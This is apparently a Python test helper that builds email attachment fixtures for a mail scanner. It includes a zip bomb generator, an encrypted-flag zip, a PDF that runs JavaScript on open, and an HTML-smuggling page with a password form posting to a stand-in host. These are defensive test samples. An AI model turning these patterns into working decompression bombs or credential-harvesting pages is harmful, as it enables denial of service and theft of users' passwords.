"""Attachment payloads built in memory for tests (no real malware)."""

from __future__ import annotations

import base64
import io
import zipfile

from tests.support.mail import multipart

PE_HEADER = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."


def attachment_email(
    filename: str, content: bytes, content_type: str = "application/octet-stream"
) -> bytes:
    """A multipart email carrying one base64 attachment."""
    encoded = base64.b64encode(content).decode("ascii")
    part = (
        f'Content-Type: {content_type}; name="{filename}"\r\n'
        f'Content-Disposition: attachment; filename="{filename}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{encoded}"
    )
    return multipart(["Content-Type: text/plain\r\n\r\nSee attached.", part])


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive holding the given members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypted_zip(name: str, data: bytes) -> bytes:
    """A zip whose member claims traditional encryption (flag bit 0 set)."""
    raw = bytearray(zip_of({name: data}, zipfile.ZIP_STORED))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = raw.find(signature)
        raw[position + offset] |= 0x01
    return bytes(raw)


def zip_bomb(levels: int = 4, fan_out: int = 10) -> bytes:
    """Nested zips of highly compressible zeros, built small but expanding hugely."""
    layer = zip_of({"zeros.bin": b"\x00" * (8 * 1024 * 1024)})
    for level in range(levels):
        layer = zip_of({f"l{level}_{i}.zip": layer for i in range(fan_out)})
    return layer


PDF_WITH_JS = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
    b"2 0 obj << /S /JavaScript /JS (app.alert('x')) >> endobj\n"
    b"3 0 obj << /A << /S /URI /URI (https://collect.example/x) >> >> endobj\n%%EOF\n"
)
SMUGGLING_HTML = (
    b"<html><body><script>var b=new Blob([atob('UEsDBA==')]);var a=document.createElement('a');"
    b"a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click();</script>"
    b"<form action='https://grab.example/p'><input type='password'></form></body></html>"
)
